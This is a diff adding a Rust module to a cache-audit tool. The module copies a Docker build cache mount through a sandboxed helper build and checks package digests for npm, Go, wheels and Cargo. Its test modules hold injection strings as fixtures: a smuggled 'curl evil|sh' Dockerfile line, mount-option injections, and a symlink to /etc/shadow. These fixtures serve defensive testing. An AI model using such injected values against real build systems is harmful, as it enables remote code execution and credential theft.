@@ -1,0 +1,652 @@
+//! Copies a cache mount out of a builder and hashes it here. A helper build mounts the cache
+//! read-only in an untainted base image and archives it with `tar` into a stage that
+//! `--output type=local` writes to a temporary directory; cachewarden then reads that archive
+//! as one stream: every file's path, size, mode and SHA-256, plus whatever digest a content
+//! check needs. Nothing of the mount is unpacked here: its hostile names never become paths on
+//! this machine, and a symbolic link is a name with a target (hashed), never followed. Files
+//! are streamed: memory holds the file list, not the files.
+//!
+//! The helper step never runs with `--no-cache` (on Docker 20.10 that detaches every cache
+//! mount): a nonce build argument keeps it out of the layer cache instead.
+
+use std::collections::BTreeMap;
+use std::fs::File;
+use std::io::{self, Read, Seek, SeekFrom};
+use std::path::Path;
+use std::process::Stdio;
+
+use sha1::Sha1;
+use sha2::{Digest as _, Sha256, Sha512};
+
+use crate::audit::mounts::checks::{self, Mismatch, NpmAlgo, Rule};
+use crate::audit::mounts::{FileEntry, Scan, tar, zip};
+use crate::error::RemoteError;
+use crate::model::MountUse;
+use crate::time;
+
+/// Small files read whole for a check (a `package.json`, a `.ziphash`, an index cache file)
+/// are at most this big; a bigger one is left unchecked, and said so.
+const READ_LIMIT: u64 = 16 << 20;
+const S_IFMT: u32 = 0o170000;
+#[cfg(test)]
+const S_IFLNK: u32 = 0o120000;
+
+/// The helper step's command. On Docker 20.10 a helper that attaches a mount with no record
+/// yet creates one described `cached mount /cachewarden-mount from exec /bin/sh -c <this>`:
+/// the audit knows it for its own.
+pub const HELPER_COMMAND: &str = "echo \"$CACHEWARDEN_NONCE\" >/dev/null && tar -cf /cachewarden-mount.tar -C /cachewarden-mount .";
+
+/// The archive the helper step writes: the layer records that hold it name it.
+pub const HELPER_ARCHIVE: &str = "/cachewarden-mount.tar";
+
+/// Whether a record is one a helper build created (see [`HELPER_COMMAND`]).
+pub fn is_helper_record(description: &str) -> bool {
+    description == format!("cached mount /cachewarden-mount from exec /bin/sh -c {HELPER_COMMAND}")
+}
+
+/// How the helper build mounts the cache: its id and the options its recorded uses gave it
+/// (uid, gid, mode, from change the record BuildKit picks).
+pub struct HelperBuild<'a> {
+    pub docker: &'a str,
+    pub endpoint: &'a str,
+    pub base: &'a str,
+    pub mount_id: &'a str,
+    pub uses: Option<&'a MountUse>,
+}
+
+/// Runs the helper build; the mount's archive is the returned directory's `mount.tar`.
+pub async fn copy_out(h: &HelperBuild<'_>) -> Result<tempfile::TempDir, RemoteError> {
+    // Recorded values are hostile: none may end the mount option or the line it is on.
+    let from = h.uses.and_then(|u| u.from.as_deref()).unwrap_or("");
+    if h.mount_id.contains([',', '"', '\n', '\r'])
+        || from.contains([',', '"', '='])
+        || from.contains(char::is_whitespace)
+        || h.base.contains(char::is_whitespace)
+    {
+        return Err(RemoteError::local(format!(
+            "mount `{}` (base `{}`, from `{}`) cannot be named in a Dockerfile mount option",
+            h.mount_id.escape_debug(),
+            h.base.escape_debug(),
+            from.escape_debug()
+        )));
+    }
+    let mut options = format!(
+        "type=cache,id={},target=/cachewarden-mount,readonly",
+        h.mount_id
+    );
+    if let Some(u) = h.uses {
+        if let Some(uid) = u.uid {
+            options.push_str(&format!(",uid={uid}"));
+        }
+        if let Some(gid) = u.gid {
+            options.push_str(&format!(",gid={gid}"));
+        }
+        if let Some(mode) = u.mode {
+            options.push_str(&format!(",mode={mode:o}"));
+        }
+        if let Some(from) = &u.from {
+            options.push_str(&format!(",from={from}"));
+        }
+    }
+    let work = tempfile::Builder::new()
+        .prefix("cachewarden-mount-copy-")
+        .tempdir()
+        .map_err(|e| RemoteError::local(format!("cannot create a temporary directory: {e}")))?;
+    let dockerfile = format!(
+        "FROM {base} AS copy\n\
+         ARG CACHEWARDEN_NONCE\n\
+         RUN --mount={options} {HELPER_COMMAND}\n\
+         FROM scratch\n\
+         COPY --from=copy /cachewarden-mount.tar /mount.tar\n",
+        base = h.base
+    );
+    std::fs::write(work.path().join("Dockerfile"), dockerfile)
+        .map_err(|e| RemoteError::local(format!("cannot write the helper Dockerfile: {e}")))?;
+    let context = work.path().join("context");
+    std::fs::create_dir(&context)
+        .map_err(|e| RemoteError::local(format!("cannot create the helper context: {e}")))?;
+    let out = tempfile::Builder::new()
+        .prefix("cachewarden-mount-")
+        .tempdir()
+        .map_err(|e| RemoteError::local(format!("cannot create a temporary directory: {e}")))?;
+    let output = tokio::process::Command::new(h.docker)
+        .args(["build", "--network=none", "--pull=false", "-f"])
+        .arg(work.path().join("Dockerfile"))
+        .arg("--build-arg")
+        .arg(format!("CACHEWARDEN_NONCE={:x}", time::now()))
+        .arg("--output")
+        .arg(format!("type=local,dest={}", out.path().display()))
+        .arg(&context)
+        .env("DOCKER_HOST", h.endpoint)
+        .env("DOCKER_BUILDKIT", "1")
+        .stdin(Stdio::null())
+        .output()
+        .await
+        .map_err(|e| RemoteError::local(format!("cannot run `{}`: {e}", h.docker)))?;
+    if !output.status.success() {
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        let last = stderr
+            .lines()
+            .rev()
+            .find(|l| !l.trim().is_empty())
+            .unwrap_or("");
+        return Err(RemoteError::local(format!(
+            "the helper build copying mount `{}` failed: {last}",
+            h.mount_id
+        )));
+    }
+    if !out.path().join("mount.tar").is_file() {
+        return Err(RemoteError::local(format!(
+            "the helper build copying mount `{}` wrote no archive",
+            h.mount_id
+        )));
+    }
+    Ok(out)
+}
+
+/// Reads a mount's archive: every non-directory entry hashed, content checks applied.
+pub fn scan(archive: &Path) -> io::Result<Scan> {
+    let mut scan = Scan::default();
+    let mut later = Later::default();
+    let mut hard_links: Vec<(Vec<u8>, u32, Vec<u8>)> = Vec::new();
+    tar::entries(io::BufReader::new(File::open(archive)?), |h, data| {
+        let entry = match h.kind {
+            tar::Kind::Directory => return Ok(()),
+            tar::Kind::Symlink => FileEntry {
+                path: h.path.clone(),
+                size: h.link.len() as u64,
+                mode: h.mode,
+                sha256: Sha256::digest(&h.link).into(),
+            },
+            tar::Kind::HardLink => {
+                hard_links.push((h.path.clone(), h.mode, h.link.clone()));
+                return Ok(());
+            }
+            tar::Kind::Special(_) => FileEntry {
+                path: h.path.clone(),
+                size: 0,
+                mode: h.mode,
+                sha256: Sha256::digest(b"").into(),
+            },
+            tar::Kind::File => {
+                let entry = hash_file(data, h.path.clone(), h.mode, &mut scan, &mut later)?;
+                if entry.path.ends_with(b".zip") || entry.path.ends_with(b".whl") {
+                    later
+                        .sections
+                        .insert(entry.path.clone(), (h.offset, entry.size));
+                }
+                entry
+            }
+        };
+        scan.files.push(entry);
+        Ok(())
+    })?;
+    // A hard link has its target's content (tar archives each inode's content once).
+    scan.files.sort_by(|a, b| a.path.cmp(&b.path));
+    for (path, mode, target) in hard_links {
+        let mut target = target;
+        while target.starts_with(b"./") {
+            target.drain(..2);
+        }
+        let found = scan
+            .files
+            .binary_search_by(|f| f.path.as_slice().cmp(&target))
+            .ok()
+            .map(|i| scan.files[i].clone());
+        let Some(found) = found else {
+            scan.unchecked.push((
+                path.clone(),
+                "a hard link to a file the archive does not hold".to_owned(),
+            ));
+            continue;
+        };
+        scan.files.push(FileEntry {
+            path,
+            mode,
+            ..found
+        });
+    }
+    // The last entry of a path wins, as when unpacking.
+    scan.files.reverse();
+    scan.files.sort_by(|a, b| a.path.cmp(&b.path));
+    scan.files
+        .dedup_by(|later_one, earlier| later_one.path == earlier.path);
+    let files = std::mem::take(&mut scan.files);
+    later.finish(archive, &files, &mut scan);
+    scan.files = files;
+    scan.mismatches.sort();
+    Ok(scan)
+}
+
+/// One entry's content inside the archive, readable and seekable on its own.
+struct Section {
+    file: File,
+    start: u64,
+    len: u64,
+    at: u64,
+}
+
+impl Read for Section {
+    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
+        let left = self.len.saturating_sub(self.at);
+        let want = (buf.len() as u64).min(left) as usize;
+        if want == 0 {
+            return Ok(0);
+        }
+        self.file.seek(SeekFrom::Start(self.start + self.at))?;
+        let n = self.file.read(&mut buf[..want])?;
+        self.at += n as u64;
+        Ok(n)
+    }
+}
+
+impl Seek for Section {
+    fn seek(&mut self, to: SeekFrom) -> io::Result<u64> {
+        let at = match to {
+            SeekFrom::Start(n) => n as i128,
+            SeekFrom::End(n) => self.len as i128 + n as i128,
+            SeekFrom::Current(n) => self.at as i128 + n as i128,
+        };
+        if at < 0 {
+            return Err(io::Error::new(
+                io::ErrorKind::InvalidInput,
+                "seek before start",
+            ));
+        }
+        self.at = at as u64;
+        Ok(self.at)
+    }
+}
+
+/// What the walk must look at once every file is known.
+#[derive(Default)]
+struct Later {
+    /// Where each `.zip` and `.whl` lies in the archive: (offset, size).
+    sections: BTreeMap<Vec<u8>, (u64, u64)>,
+    ziphashes: BTreeMap<Vec<u8>, String>,
+    wheels: Vec<Vec<u8>>,
+    crates: Vec<Vec<u8>>,
+    /// (prefix, index dir) -> crate file name -> cksum.
+    cargo_index: BTreeMap<(String, String), BTreeMap<String, String>>,
+}
+
+fn hash_file(
+    file: &mut dyn Read,
+    path: Vec<u8>,
+    mode: u32,
+    scan: &mut Scan,
+    later: &mut Later,
+) -> io::Result<FileEntry> {
+    let npm = checks::npm_address(&path);
+    let keep = checks::is_package_json(&path)
+        || path.ends_with(b".ziphash")
+        || checks::cargo_index_key(&path).is_some();
+    let mut sha256 = Sha256::new();
+    let mut sha512 = matches!(npm, Some((NpmAlgo::Sha512, _))).then(Sha512::new);
+    let mut sha1 = matches!(npm, Some((NpmAlgo::Sha1, _))).then(Sha1::new);
+    let mut kept: Option<Vec<u8>> = keep.then(Vec::new);
+    let mut size = 0u64;
+    let mut buf = vec![0u8; 256 * 1024];
+    loop {
+        let n = file.read(&mut buf)?;
+        if n == 0 {
+            break;
+        }
+        size += n as u64;
+        sha256.update(&buf[..n]);
+        if let Some(h) = &mut sha512 {
+            h.update(&buf[..n]);
+        }
+        if let Some(h) = &mut sha1 {
+            h.update(&buf[..n]);
+        }
+        if let Some(k) = &mut kept {
+            if size > READ_LIMIT {
+                kept = None;
+                scan.unchecked
+                    .push((path.clone(), format!("larger than {READ_LIMIT} bytes")));
+            } else {
+                k.extend_from_slice(&buf[..n]);
+            }
+        }
+    }
+    let sha256: [u8; 32] = sha256.finalize().into();
+    if let Some((algo, expected)) = npm {
+        let actual = match algo {
+            NpmAlgo::Sha512 => checks::hex(&sha512.take().expect("hashed").finalize()),
+            NpmAlgo::Sha1 => checks::hex(&sha1.take().expect("hashed").finalize()),
+            NpmAlgo::Sha256 => checks::hex(&sha256),
+        };
+        if actual != expected {
+            scan.mismatches.push(Mismatch {
+                path: path.clone(),
+                rule: Rule::NpmContent,
+                member: None,
+                expected: format!("{}:{expected}", algo.as_str()),
+                actual: format!("{}:{actual}", algo.as_str()),
+            });
+        }
+    } else if checks::npm_malformed(&path) {
+        scan.mismatches.push(Mismatch {
+            path: path.clone(),
+            rule: Rule::NpmContent,
+            member: None,
+            expected: "a content address as its path".to_owned(),
+            actual: format!("sha256:{}", checks::hex(&sha256)),
+        });
+    }
+    if let Some(bytes) = kept {
+        if checks::is_package_json(&path) {
+            let scripts = checks::npm_lifecycle_scripts(&bytes);
+            if !scripts.is_empty() {
+                scan.lifecycle.insert(path.clone(), scripts);
+            }
+        }
+        if path.ends_with(b".ziphash") {
+            later
+                .ziphashes
+                .insert(path.clone(), checks::parse_ziphash(&bytes));
+        }
+        if let Some(key) = checks::cargo_index_key(&path) {
+            later
+                .cargo_index
+                .entry(key)
+                .or_default()
+                .extend(checks::cargo_index_checksums(&bytes));
+        }
+    }
+    if path.ends_with(b".whl") {
+        later.wheels.push(path.clone());
+    }
+    if checks::cargo_crate_key(&path).is_some() {
+        later.crates.push(path.clone());
+    }
+    Ok(FileEntry {
+        path,
+        size,
+        mode,
+        sha256,
+    })
+}
+
+impl Later {
+    fn finish(self, archive: &Path, files: &[FileEntry], scan: &mut Scan) {
+        let open = |rel: &[u8]| -> io::Result<io::BufReader<Section>> {
+            let (start, len) = self
+                .sections
+                .get(rel)
+                .copied()
+                .ok_or_else(|| io::Error::other("not in the archive"))?;
+            Ok(io::BufReader::new(Section {
+                file: File::open(archive)?,
+                start,
+                len,
+                at: 0,
+            }))
+        };
+        let digest_of = |rel: &[u8]| {
+            files
+                .binary_search_by(|f| f.path.as_slice().cmp(rel))
+                .ok()
+                .map(|i| files[i].sha256)
+        };
+        let regular = |rel: &[u8]| {
+            files
+                .binary_search_by(|f| f.path.as_slice().cmp(rel))
+                .ok()
+                .is_some_and(|i| files[i].mode & S_IFMT == 0o100000)
+        };
+        // Go: `<v>.zip` against `<v>.ziphash` beside it.
+        for (hash_path, expected) in &self.ziphashes {
+            let zip_path = [&hash_path[..hash_path.len() - ".ziphash".len()], b".zip"].concat();
+            if !regular(&zip_path) {
+                continue;
+            }
+            let opened = open(&zip_path).and_then(|f| zip::members(f, |_| false));
+            match opened {
+                Err(e) => scan.unchecked.push((zip_path, e.to_string())),
+                Ok(members) => {
+                    let list: Vec<(String, [u8; 32])> =
+                        members.into_iter().map(|m| (m.name, m.sha256)).collect();
+                    let actual = checks::go_hash1(&list)
+                        .unwrap_or_else(|| "a name Go cannot hash".to_owned());
+                    if &actual != expected {
+                        scan.mismatches.push(Mismatch {
+                            path: zip_path,
+                            rule: Rule::GoZiphash,
+                            member: None,
+                            expected: expected.clone(),
+                            actual,
+                        });
+                    }
+                }
+            }
+        }
+        // Wheels: members against RECORD.
+        for wheel in self.wheels {
+            if !regular(&wheel) {
+                continue;
+            }
+            let opened = open(&wheel).and_then(|f| zip::members(f, checks::is_wheel_record));
+            let members = match opened {
+                Ok(m) => m,
+                Err(e) => {
+                    scan.unchecked.push((wheel, e.to_string()));
+                    continue;
+                }
+            };
+            let records: Vec<&zip::Member> = members
+                .iter()
+                .filter(|m| checks::is_wheel_record(&m.name))
+                .collect();
+            let [record] = records.as_slice() else {
+                scan.mismatches.push(Mismatch {
+                    path: wheel,
+                    rule: Rule::WheelRecord,
+                    member: None,
+                    expected: "one *.dist-info/RECORD".to_owned(),
+                    actual: format!("{} RECORD files", records.len()),
+                });
+                continue;
+            };
+            let text = String::from_utf8_lossy(record.content.as_deref().unwrap_or_default());
+            let by_name: BTreeMap<String, [u8; 32]> = members
+                .iter()
+                .filter(|m| !m.is_dir)
+                .map(|m| (m.name.clone(), m.sha256))
+                .collect();
+            for (member, expected, actual) in checks::wheel_record(&text, &by_name) {
+                scan.mismatches.push(Mismatch {
+                    path: wheel.clone(),
+                    rule: Rule::WheelRecord,
+                    member: Some(member),
+                    expected,
+                    actual,
+                });
+            }
+        }
+        // Cargo: `.crate` against the index cache's cksum, where the index lists it.
+        for krate in self.crates {
+            let Some((prefix, dir, name)) = checks::cargo_crate_key(&krate) else {
+                continue;
+            };
+            let Some(expected) = self
+                .cargo_index
+                .get(&(prefix, dir))
+                .and_then(|sums| sums.get(&name))
+            else {
+                continue;
+            };
+            let Some(digest) = digest_of(&krate) else {
+                continue;
+            };
+            let actual = checks::hex(&digest);
+            if &actual != expected {
+                scan.mismatches.push(Mismatch {
+                    path: krate,
+                    rule: Rule::CargoIndex,
+                    member: None,
+                    expected: format!("sha256:{expected}"),
+                    actual: format!("sha256:{actual}"),
+                });
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use base64::Engine as _;
+
+    use super::*;
+
+    fn put(root: &Path, rel: &str, bytes: &[u8]) {
+        let path = root.join(rel);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, bytes).unwrap();
+    }
+
+    /// The walk of a mount's archive hashes every file, records a symbolic link without
+    /// following it out of the tree, and applies each checksum rule: a tampered npm blob, Go zip, wheel member and
+    /// crate are each a mismatch; their intact twins are not.
+    #[test]
+    fn the_walk_applies_every_rule_and_never_follows_links() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        // npm: one blob at its sha512 address, one overwritten.
+        let good = b"good tarball";
+        let hex = checks::hex(&Sha512::digest(good));
+        let at = |h: &str| {
+            format!(
+                "_cacache/content-v2/sha512/{}/{}/{}",
+                &h[..2],
+                &h[2..4],
+                &h[4..]
+            )
+        };
+        put(root, &at(&hex), good);
+        let other = checks::hex(&Sha512::digest(b"original"));
+        put(root, &at(&other), b"overwritten");
+        // Go: a zip with a matching and one with a stale ziphash.
+        let zip = zip::stored_zip(&[("m@v1.0.0/go.mod", b"module m\n")]);
+        let h1 = checks::go_hash1(&[(
+            "m@v1.0.0/go.mod".to_owned(),
+            Sha256::digest(b"module m\n").into(),
+        )])
+        .unwrap();
+        put(root, "cache/download/m/@v/v1.0.0.zip", &zip);
+        put(
+            root,
+            "cache/download/m/@v/v1.0.0.ziphash",
+            format!("{h1}\n").as_bytes(),
+        );
+        put(root, "cache/download/n/@v/v1.0.0.zip", &zip);
+        put(root, "cache/download/n/@v/v1.0.0.ziphash", b"h1:stale=\n");
+        // A wheel whose module differs from its RECORD.
+        let record = format!(
+            "p/__init__.py,sha256={},2\np-1.dist-info/RECORD,,\n",
+            base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(b"ok"))
+        );
+        let whl = zip::stored_zip(&[
+            ("p/__init__.py", b"evil"),
+            ("p-1.dist-info/RECORD", record.as_bytes()),
+        ]);
+        put(root, "wheels/ab/p-1-py3-none-any.whl", &whl);
+        // Cargo: the index lists one checksum; the crate does not match it.
+        let index = format!(
+            "\u{3}\0\0\0\0etag\u{0}1.0.0\u{0}{{\"name\":\"c\",\"vers\":\"1.0.0\",\"cksum\":\"{}\"}}\u{0}",
+            checks::hex(&Sha256::digest(b"real crate"))
+        );
+        put(root, "registry/index/idx-1/.cache/1/c", index.as_bytes());
+        put(root, "registry/cache/idx-1/c-1.0.0.crate", b"swapped crate");
+        // A link out of the tree, and a package.json with an install script.
+        std::os::unix::fs::symlink("/etc/shadow", root.join("escape")).unwrap();
+        put(
+            root,
+            "pkg/package.json",
+            br#"{"scripts":{"postinstall":"sh x"}}"#,
+        );
+
+        let archive = dir.path().with_extension("tar");
+        let status = std::process::Command::new("tar")
+            .arg("-cf")
+            .arg(&archive)
+            .arg("-C")
+            .arg(root)
+            .arg(".")
+            .status()
+            .unwrap();
+        assert!(status.success());
+        let scan = scan(&archive).unwrap();
+        let _ = std::fs::remove_file(&archive);
+        let bad: Vec<(Rule, String)> = scan
+            .mismatches
+            .iter()
+            .map(|m| (m.rule, String::from_utf8_lossy(&m.path).into_owned()))
+            .collect();
+        assert_eq!(
+            bad,
+            vec![
+                (Rule::NpmContent, at(&other)),
+                (Rule::GoZiphash, "cache/download/n/@v/v1.0.0.zip".to_owned()),
+                (
+                    Rule::CargoIndex,
+                    "registry/cache/idx-1/c-1.0.0.crate".to_owned()
+                ),
+                (
+                    Rule::WheelRecord,
+                    "wheels/ab/p-1-py3-none-any.whl".to_owned()
+                ),
+            ],
+            "{:#?}",
+            scan.mismatches
+        );
+        let link = scan.files.iter().find(|f| f.path == b"escape").unwrap();
+        assert_eq!(link.mode & S_IFMT, S_IFLNK);
+        assert_eq!(
+            link.sha256,
+            <[u8; 32]>::from(Sha256::digest(b"/etc/shadow"))
+        );
+        assert_eq!(
+            scan.lifecycle.get(b"pkg/package.json".as_slice()),
+            Some(&vec!["postinstall".to_owned()])
+        );
+        assert!(scan.files.windows(2).all(|w| w[0].path < w[1].path));
+        assert!(scan.unchecked.is_empty(), "{:?}", scan.unchecked);
+    }
+}
+
+#[cfg(test)]
+mod injection_tests {
+    use super::*;
+
+    /// A recorded mount id, `from` or base image that would end the mount option or the
+    /// Dockerfile line is refused before any build runs.
+    #[tokio::test]
+    async fn hostile_names_never_reach_the_dockerfile() {
+        let evil_from = MountUse {
+            id: "pip".into(),
+            from: Some("x\nRUN curl evil|sh".into()),
+            ..MountUse::default()
+        };
+        for (mount_id, base, uses) in [
+            ("pip,target=/etc", "busybox", None),
+            ("pip\nRUN evil", "busybox", None),
+            ("pip", "busybox\nRUN evil", None),
+            ("pip", "busybox", Some(&evil_from)),
+        ] {
+            let helper = HelperBuild {
+                docker: "/nonexistent/docker",
+                endpoint: "unix:///nonexistent",
+                base,
+                mount_id,
+                uses,
+            };
+            let err = copy_out(&helper).await.unwrap_err();
+            assert!(
+                err.to_string().contains("cannot be named in a Dockerfile"),
+                "{err}"
+            );
+        }
+    }
+}
